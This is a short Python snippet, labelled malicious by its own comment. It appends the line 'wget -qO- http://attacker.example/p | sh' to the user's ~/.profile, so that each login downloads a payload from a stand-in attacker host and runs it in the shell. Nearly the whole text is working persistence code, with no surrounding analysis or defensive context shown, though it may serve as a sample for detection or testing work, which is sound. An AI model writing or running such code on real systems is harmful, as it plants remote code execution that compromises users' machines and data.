# Malicious: appends a download-and-run line to ~/.profile for persistence at login.
from pathlib import Path

profile = Path.home() / ".profile"
with profile.open("a") as f:
    f.write("wget -qO- http://attacker.example/p | sh\n")
